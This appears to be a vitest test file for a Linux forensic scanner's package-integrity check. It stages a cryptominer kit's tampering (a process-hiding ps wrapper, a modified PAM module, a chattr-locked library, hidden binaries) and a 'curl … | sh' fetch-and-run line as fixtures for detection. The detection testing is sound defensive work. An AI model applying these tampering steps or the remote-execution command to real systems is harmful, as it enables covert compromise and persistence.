/**
 * The package integrity check on a copy of the clean Debian bookworm root: unchanged it
 * verifies every program, library and PAM module in scope and reports nothing of
 * medium or more. Then a miner kit's changes (a ps wrapper with ps.original, a byte added
 * to pam_unix.so, a changed libkeyutils locked with chattr +i, pgrep replaced by a
 * symlink, hidden and plain ELF files dropped in /usr/bin, top removed) next to an
 * admin's (a dpkg-divert --local'd tac with a script in its place, an edited
 * sshd_config, policy-rc.d, a script in /usr/local/bin): exact findings, the same from
 * an ext4 image of the tree, whose bytes the scan leaves unchanged. Hostile md5sums in
 * the tree change nothing but the errors. Small synthetic roots cover a changed
 * conffile in scope, a root without a package database, and an RPM root built with
 * rpmbuild and rpm.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { createHash } from 'node:crypto';
import { createReadStream } from 'node:fs';
import { appendFile, chmod, copyFile, mkdir, readFile, rename, rm, symlink, unlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { packageIntegrityCheck } from '../../src/checks/package-integrity/check.js';
import { hijackedCommandsCheck } from '../../src/checks/hijacked-commands.js';
import { indicatorPathsCheck } from '../../src/checks/indicator-paths.js';
import { runChecks, type CheckRunResult } from '../../src/engine/run-checks.js';
import { severityRank, type Finding } from '../../src/model/finding.js';
import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
import { openTarget } from '../../mountfs/open-target.js';
import { FACT_PATHS, Facts } from '../../src/facts/facts.js';
import { DirectoryFileSystem } from '../../mountfs/fs/dir/directory-fs.js';
import { RawVfs } from '../../mountfs/vfs.js';
import { declaredPaths } from '../../src/model/check.js';
import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
import { buildImage, makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { buildDeb, divert, initDpkgRoot, installDebs } from '../helpers/dpkg-root.js';
import { buildRpms, installRpms } from '../helpers/rpm-root.js';
import { fixture } from '../helpers/fixtures.js';

const run = promisify(execFile);
const ROOT = fixture('debianRoot');
// indicator-paths too: an unowned file a path rule names yields to its finding (integrity.yaml).
const CHECKS = [hijackedCommandsCheck, indicatorPathsCheck, packageIntegrityCheck];
const LIBKEYUTILS = '/usr/lib/x86_64-linux-gnu/libkeyutils.so.1.10';
const PAM_UNIX = '/usr/lib/x86_64-linux-gnu/security/pam_unix.so';

const summary = (fs: Finding[]) => fs.map((f) => `${f.severity} ${f.rule} ${f.path}`).sort();
const loud = (fs: Finding[]) => fs.filter((f) => severityRank(f.severity) >= severityRank('medium'));
const comparable = (fs: Finding[]) => fs.map((f) => ({ rule: f.rule, severity: f.severity, path: f.path, message: f.message, remediation: f.remediation })).sort((a, b) => (`${a.path} ${a.rule}` < `${b.path} ${b.rule}` ? -1 : 1));

async function sha256(file: string): Promise<string> {
  const h = createHash('sha256');
  for await (const chunk of createReadStream(file)) h.update(chunk as Buffer);
  return h.digest('hex');
}

async function scanImage(image: string): Promise<CheckRunResult> {
  const opened = await openTarget(image, { bytesRead: 0 });
  try {
    return await runChecks(opened.filesystems[0]!.vfs, CHECKS, { rules: await builtinRules(), hashes: EMPTY_HASH_LIST });
  } finally {
    await opened.close();
  }
}

describe('package-integrity on a copy of the clean Debian root', () => {
  let scratch: string;
  let root: string;
  let infected: CheckRunResult;
  const at = (rel: string) => path.join(root, rel);

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-integrity-');
    root = path.join(scratch, 'root');
    await run('cp', ['-a', ROOT, root]);
  }, 300_000);
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('verifies the unchanged root without a finding of medium or more', async () => {
    const result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(result.errors).toEqual([]);
    expect(loud(result.findings)).toEqual([]);
    expect(result.findings).toEqual([]);
    expect(result.filesExamined).toBeGreaterThan(900);
    expect(result.bytesHashed).toBeGreaterThan(80 << 20);
  });

  it("reports a miner kit's changes by package, and stays quiet about the admin's", async () => {
    // The kit.
    await rename(at('usr/bin/ps'), at('usr/bin/ps.original'));
    await writeFile(at('usr/bin/ps'), '#!/bin/bash\n/usr/bin/ps.original "$@" | grep -v kdevtmpfsi\n', { mode: 0o755 });
    await appendFile(at(PAM_UNIX), Buffer.from([0]));
    await appendFile(at(LIBKEYUTILS), 'x');
    await run('chattr', ['+i', at(LIBKEYUTILS)]);
    await mkdir(at('tmp/.x'), { recursive: true });
    await copyFile(at('usr/bin/true'), at('tmp/.x/pgrep'));
    await unlink(at('usr/bin/pgrep'));
    await symlink('/tmp/.x/pgrep', at('usr/bin/pgrep'));
    await copyFile(at('usr/bin/true'), at('usr/bin/.sshd'));
    await copyFile(at('usr/bin/true'), at('usr/bin/kdevtmpfsi'));
    // Skidmap's binary is named by a family path rule: indicator-paths reports it, this check leaves it.
    await copyFile(at('usr/bin/true'), at('usr/bin/kaudited'));
    await unlink(at('usr/bin/top'));
    // The admin.
    await divert(root, '/usr/bin/tac', '/usr/bin/tac.distrib');
    await writeFile(at('usr/bin/tac'), '#!/bin/sh\nexec /usr/bin/tac.distrib "$@"\n', { mode: 0o755 });
    await appendFile(at('etc/ssh/sshd_config'), '\nPasswordAuthentication no\n');
    await writeFile(at('usr/sbin/policy-rc.d'), '#!/bin/sh\nexit 101\n', { mode: 0o755 });
    await writeFile(at('usr/local/bin/backup.sh'), '#!/bin/sh\ntar czf /var/backups/etc.tgz /etc\n', { mode: 0o755 });

    infected = await scanDirectory(root, CHECKS);
    expect(infected.errors).toEqual([]);
    expect(summary(infected.findings)).toEqual(
      [
        'critical hijacked-command.wrapper /usr/bin/ps',
        'high hijacked-command.moved-original /usr/bin/ps.original',
        'critical integrity.trojaned-command-modified /usr/bin/ps',
        `critical integrity.pam-module-modified ${PAM_UNIX}`,
        'critical integrity.trojaned-command-modified /usr/bin/pgrep',
        // A known family binary no package owns: the path rule's finding only.
        'critical skidmap.binary /usr/bin/kaudited',
        `high integrity.package-file-modified ${LIBKEYUTILS}`,
        'high integrity.unowned-hidden-system-binary /usr/bin/.sshd',
        'medium integrity.unowned-system-binary /usr/bin/kdevtmpfsi',
        'low integrity.package-file-missing /usr/bin/top',
        'info integrity.unowned-known-helper /usr/sbin/policy-rc.d',
        'info integrity.unowned-local-binary /usr/local/bin/backup.sh',
      ].sort(),
    );
    const find = (rule: string, p: string) => infected.findings.find((f) => f.rule === rule && f.path === p)!;

    const ps = find('integrity.trojaned-command-modified', '/usr/bin/ps');
    expect(ps.category).toBe('integrity/packages');
    expect(ps.message).toMatch(/^\/usr\/bin\/ps differs from what package procps installed \(md5 [0-9a-f]{32}, recorded 08a07e7517a09d2f40e2618eff4adf22\)/);
    expect(ps.message).toContain('it is now a script (#!/bin/bash) of 59 bytes; a moved-aside copy lies beside it (/usr/bin/ps.original), which the hijacked-command findings describe');
    expect(ps.remediation).toBe('apt-get install --reinstall procps\nCompare the rest of the package: debsums -c procps   (or: dpkg --verify procps)');

    const pam = find('integrity.pam-module-modified', PAM_UNIX);
    expect(pam.message).toContain('differs from what package libpam-modules installed');
    expect(pam.evidence).toMatch(/^md5 [0-9a-f]{32}; \/var\/lib\/dpkg\/info records ed9cdd3c24bec7b7f1515d549834ab47 for libpam-modules$/);
    expect(pam.remediation).toContain('apt-get install --reinstall libpam-modules');

    const lib = find('integrity.package-file-modified', LIBKEYUTILS);
    expect(lib.message).toContain('package libkeyutils1 installed');
    expect(lib.remediation).toMatch(new RegExp(`^chattr -ia ${LIBKEYUTILS.replace(/\./g, '\\.')}\napt-get install --reinstall libkeyutils1\n`));

    const pgrep = find('integrity.trojaned-command-modified', '/usr/bin/pgrep');
    expect(pgrep.message).toMatch(/it is now an ELF program of \d+ bytes; the packaged file was replaced by a symlink to \/tmp\/\.x\/pgrep$/);

    expect(find('integrity.unowned-hidden-system-binary', '/usr/bin/.sshd').message).toMatch(/^\/usr\/bin\/\.sshd is a hidden file .* \(an ELF program of \d+ bytes\)/);
    expect(find('integrity.unowned-system-binary', '/usr/bin/kdevtmpfsi').remediation).toContain('rm -f /usr/bin/kdevtmpfsi');
    expect(find('integrity.package-file-missing', '/usr/bin/top').message).toContain('package procps installed it');
  });

  it('gives the same findings from an ext4 image of the changed tree, and leaves the image unchanged', async () => {
    const immutable = path.join(scratch, 'immutable.list');
    await writeFile(immutable, `${LIBKEYUTILS}\n`);
    // mkfs.ext4 -d does not copy inode flags: lift the lock while it reads, and let debugfs set it in the image.
    await run('chattr', ['-i', at(LIBKEYUTILS)]);
    const image = await buildImage(root, path.join(scratch, 'infected.img'), { table: 'gpt', sizeMiB: 640, immutable });
    await run('chattr', ['+i', at(LIBKEYUTILS)]);
    const before = await sha256(image);
    const fromImage = await scanImage(image);
    expect(fromImage.errors).toEqual([]);
    expect(comparable(fromImage.findings)).toEqual(comparable(infected.findings));
    expect(fromImage.filesExamined).toBe(infected.filesExamined);
    expect(await sha256(image)).toBe(before);
    await rm(image);
  }, 300_000);

  it('keeps its findings when info files turn hostile, and does not trust the lists of a package dpkg does not know', async () => {
    const info = (n: string) => at(`var/lib/dpkg/info/${n}`);
    const good = 'd41d8cd98f00b204e9800998ecf8427e';
    await appendFile(info('procps.md5sums'), [`${good}  ../../usr/bin/kdevtmpfsi`, `${'g'.repeat(32)}  usr/bin/.sshd`, `${good}  usr/bin/../../etc/shadow`, ''].join('\n'));
    await appendFile(info('procps.md5sums'), Buffer.alloc(16 << 20, 0x61));
    await appendFile(info('coreutils.list'), Buffer.alloc(1 << 20, 0xff));
    // A kit that makes its miner look packaged: a file list and md5sums, but no status entry.
    const miner = createHash('md5').update(await readFile(at('usr/bin/kdevtmpfsi'))).digest('hex');
    await writeFile(info('sysupdate.list'), '/.\n/usr\n/usr/bin\n/usr/bin/kdevtmpfsi\n');
    await writeFile(info('sysupdate.md5sums'), `${miner}  usr/bin/kdevtmpfsi\n`);

    const again = await scanDirectory(root, CHECKS);
    expect(summary(again.findings)).toEqual([...summary(infected.findings), 'medium integrity.unregistered-package-files /var/lib/dpkg/info/sysupdate.list'].sort());
    const unregistered = again.findings.find((f) => f.rule === 'integrity.unregistered-package-files')!;
    expect(unregistered.remediation).toContain('rm -f /var/lib/dpkg/info/sysupdate.list /var/lib/dpkg/info/sysupdate.md5sums');
    expect(again.errors).toEqual([
      { path: '/var/lib/dpkg/info/coreutils.list', message: 'dpkg info: 1 line(s) over 4136 bytes skipped' },
      { path: '/var/lib/dpkg/info/procps.md5sums', message: 'dpkg info: 3 line(s) that are not a digest and a path inside the root; 1 line(s) over 4136 bytes skipped' },
    ]);
  });
});

describe('package-integrity on small roots', () => {
  let scratch: string;
  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-integrity-small-');
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('leaves a changed conffile in scope alone and verifies the package files beside it', async () => {
    const root = path.join(scratch, 'conffile');
    await initDpkgRoot(root);
    const deb = await buildDeb(scratch, {
      name: 'site-tools',
      files: [
        { path: '/usr/sbin/site-hook', content: '#!/bin/sh\nexit 0\n', mode: 0o755, conffile: true },
        { path: '/usr/sbin/site-run', content: '#!/bin/sh\necho run\n', mode: 0o755 },
      ],
    });
    await installDebs(root, [deb]);
    await appendFile(path.join(root, 'usr/sbin/site-hook'), 'logger edited by the admin\n');
    let result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(result.errors).toEqual([]);
    expect(result.findings).toEqual([]);
    expect(result.filesExamined).toBe(1);

    await appendFile(path.join(root, 'usr/sbin/site-run'), 'curl -s http://203.0.113.9/x | sh\n');
    result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(summary(result.findings)).toEqual(['high integrity.package-file-modified /usr/sbin/site-run']);
  });

  it('verifies the libraries ld.so.preload names wherever they are, and what a single-pass tar.gz kept', async () => {
    const root = path.join(scratch, 'preload');
    await initDpkgRoot(root);
    const deb = await buildDeb(scratch, {
      name: 'demo-stack',
      files: [
        { path: '/usr/bin/demo-tool', content: '#!/bin/sh\necho tool\n', mode: 0o755 },
        // Bigger than the head a single-pass source keeps of every file.
        { path: '/usr/lib/x86_64-linux-gnu/security/pam_demo.so', content: `\x7fELF pam module ${'p'.repeat(4096)}\n` },
        { path: '/usr/lib/x86_64-linux-gnu/libdemo.so.1', content: `\x7fELF library ${'l'.repeat(4096)}\n` },
        { path: '/opt/demo/lib/libpre.so', content: `\x7fELF preloaded ${'o'.repeat(4096)}\n` },
      ],
    });
    await installDebs(root, [deb]);
    await writeFile(path.join(root, 'etc/ld.so.preload'), '/opt/demo/lib/libpre.so\n');
    for (const f of ['usr/bin/demo-tool', 'usr/lib/x86_64-linux-gnu/security/pam_demo.so', 'usr/lib/x86_64-linux-gnu/libdemo.so.1', 'opt/demo/lib/libpre.so']) {
      await appendFile(path.join(root, f), 'changed\n');
    }
    const fromDir = await scanDirectory(root, [packageIntegrityCheck]);
    expect(fromDir.errors).toEqual([]);
    expect(summary(fromDir.findings)).toEqual([
      'critical integrity.pam-module-modified /usr/lib/x86_64-linux-gnu/security/pam_demo.so',
      'high integrity.package-file-modified /opt/demo/lib/libpre.so',
      'high integrity.package-file-modified /usr/bin/demo-tool',
      'high integrity.package-file-modified /usr/lib/x86_64-linux-gnu/libdemo.so.1',
    ]);
    expect(fromDir.filesExamined).toBe(4);

    // A tar.gz is read once: programs and everything in the system library directories keep
    // their digests, PAM modules are declared and kept; a 0644 library under /opt is neither.
    const archive = path.join(scratch, 'preload.tar.gz');
    await run('tar', ['-C', root, '-czf', archive, '.']);
    const rules = await builtinRules();
    const opened = await openTarget(archive, { bytesRead: 0 }, { retain: [...FACT_PATHS, ...declaredPaths(packageIntegrityCheck, rules)] });
    try {
      const fromTar = await runChecks(opened.filesystems[0]!.vfs, [packageIntegrityCheck], { rules, hashes: EMPTY_HASH_LIST });
      expect(summary(fromTar.findings)).toEqual([
        'critical integrity.pam-module-modified /usr/lib/x86_64-linux-gnu/security/pam_demo.so',
        'high integrity.package-file-modified /usr/bin/demo-tool',
        'high integrity.package-file-modified /usr/lib/x86_64-linux-gnu/libdemo.so.1',
      ]);
      expect(fromTar.errors.map((e) => e.message)).toEqual([
        '1 packaged file(s) could not be verified: the single-pass source kept neither their bytes nor their digests (first: /opt/demo/lib/libpre.so)',
      ]);
    } finally {
      await opened.close();
    }
  });

  it('does not judge changed ELF files prelink rewrote, and says how many there were', async () => {
    const root = path.join(scratch, 'prelink');
    await initDpkgRoot(root);
    const elf = (name: string) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(8192, name.charCodeAt(0))]);
    const deb = await buildDeb(scratch, {
      name: 'prelink-demo',
      files: [
        { path: '/usr/bin/prelinked', content: elf('p'), mode: 0o755 },
        { path: '/usr/bin/trojaned', content: elf('t'), mode: 0o755 },
      ],
    });
    await installDebs(root, [deb]);
    // prelink's rewrite: new sections and their names in .shstrtab, its name across the VFS's 256 KiB read chunks.
    const prelinked = Buffer.concat([elf('p'), Buffer.alloc((256 << 10) - 8200 - 5, 0), Buffer.from('\0.gnu.prelink_undo\0.gnu.conflict\0')]);
    await writeFile(path.join(root, 'usr/bin/prelinked'), prelinked);
    await appendFile(path.join(root, 'usr/bin/trojaned'), 'payload');
    const result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(summary(result.findings)).toEqual(['high integrity.package-file-modified /usr/bin/trojaned']);
    expect(result.errors).toEqual([
      {
        path: '/usr/bin/prelinked',
        message:
          "1 packaged ELF file(s) differ from their package and carry prelink's undo section: prelink rewrote them, which rpm -V undoes before comparing and minescan cannot, so they were not judged (first: /usr/bin/prelinked)",
      },
    ]);
  });

  it('reports nothing, not even unowned files, when the root has no package database', async () => {
    const root = path.join(scratch, 'nodb');
    await mkdir(path.join(root, 'usr/bin'), { recursive: true });
    await copyFile('/usr/bin/true', path.join(root, 'usr/bin/kdevtmpfsi'));
    const result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(result.findings).toEqual([]);
    expect(result.errors).toEqual([]);
  });

  it('verifies an RPM root in each package\'s digest algorithm and tells the operator to use dnf and rpm -V', async () => {
    const root = path.join(scratch, 'rpmroot');
    const rpms = await buildRpms(path.join(scratch, 'rpmbuild'), [
      {
        name: 'procps-ng',
        digestAlgorithm: 8,
        files: [
          { path: '/usr/bin/ps', content: 'ps program', mode: '755' },
          { path: '/usr/bin/free', content: 'free program', mode: '755' },
          { path: '/etc/procps.conf', content: 'x=1', kind: 'config' },
        ],
      },
      { name: 'pam', digestAlgorithm: 1, files: [{ path: '/usr/lib64/security/pam_unix.so', content: 'pam module' }] },
    ]);
    await installRpms(root, rpms);
    const vfs = new RawVfs(await DirectoryFileSystem.open(root));
    try {
      // Package ownership, which the other checks ask, knows RPM-owned files too.
      const facts = new Facts(vfs);
      expect(await facts.packages.owner('/usr/bin/ps')).toEqual({ kind: 'owned', package: 'procps-ng', manager: 'rpm' });
      expect(await facts.packages.owner('/usr/lib64/security/pam_unix.so')).toEqual({ kind: 'owned', package: 'pam', manager: 'rpm' });
      expect(await facts.packages.owner('/usr/bin/.ps')).toEqual({ kind: 'unowned' });
    } finally {
      await vfs.close();
    }
    let result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(result.errors).toEqual([]);
    expect(result.findings).toEqual([]);
    expect(result.filesExamined).toBe(3);

    await writeFile(path.join(root, 'usr/bin/ps'), '#!/bin/sh\n/usr/bin/.ps "$@" | grep -v xmrig\n');
    await chmod(path.join(root, 'usr/bin/ps'), 0o755);
    await appendFile(path.join(root, 'usr/lib64/security/pam_unix.so'), 'backdoor');
    await appendFile(path.join(root, 'etc/procps.conf'), 'y=2\n');
    await copyFile('/usr/bin/true', path.join(root, 'usr/bin/.ps'));
    result = await scanDirectory(root, [packageIntegrityCheck]);
    expect(summary(result.findings)).toEqual([
      'critical integrity.pam-module-modified /usr/lib64/security/pam_unix.so',
      'critical integrity.trojaned-command-modified /usr/bin/ps',
      'high integrity.unowned-hidden-system-binary /usr/bin/.ps',
    ]);
    const ps = result.findings.find((f) => f.path === '/usr/bin/ps')!;
    expect(ps.evidence).toMatch(/^sha256 [0-9a-f]{64}; \/var\/lib\/rpm\/rpmdb\.sqlite records [0-9a-f]{64} for procps-ng$/);
    expect(ps.remediation).toBe('dnf reinstall procps-ng\nCompare the rest of the package: rpm -V procps-ng');
    expect(result.findings.find((f) => f.path.endsWith('pam_unix.so'))!.evidence).toMatch(/^md5 [0-9a-f]{32};/);
  });
});
